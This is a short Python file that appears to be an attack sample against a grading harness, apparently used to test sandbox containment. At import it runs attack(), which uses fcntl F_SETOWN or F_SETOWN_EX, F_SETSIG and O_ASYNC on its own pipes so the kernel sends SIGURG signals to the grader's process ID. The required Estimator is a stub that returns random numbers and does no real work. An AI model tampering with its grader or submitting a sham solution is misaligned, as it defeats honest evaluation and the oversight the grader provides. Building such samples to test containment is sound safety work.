"""Makes the kernel signal the grader for it: F_SETOWN with O_ASYNC and F_SETSIG, on a pipe of its own.

Contained from tier 1.
"""

import contextlib
import fcntl
import os
import struct

KNOWN = {}


SIGURG, F_SETSIG, F_SETOWN_EX, FIOSETOWN = 23, 10, 15, 0x8901


def attack():
    for thread in (False, True):
        receiver, sender = os.pipe()
        with contextlib.suppress(OSError):
            if thread:
                fcntl.fcntl(receiver, F_SETOWN_EX, struct.pack("ii", 0, KNOWN["pid"]))
            else:
                fcntl.fcntl(receiver, fcntl.F_SETOWN, KNOWN["pid"])
            fcntl.fcntl(receiver, F_SETSIG, SIGURG)
            fcntl.fcntl(receiver, fcntl.F_SETFL, os.O_ASYNC)
            os.write(sender, b"now")


attack()


def Estimator(previous, observation, control, constants, rng):
    return rng.uniform(0.0, constants.L, (500, 6))
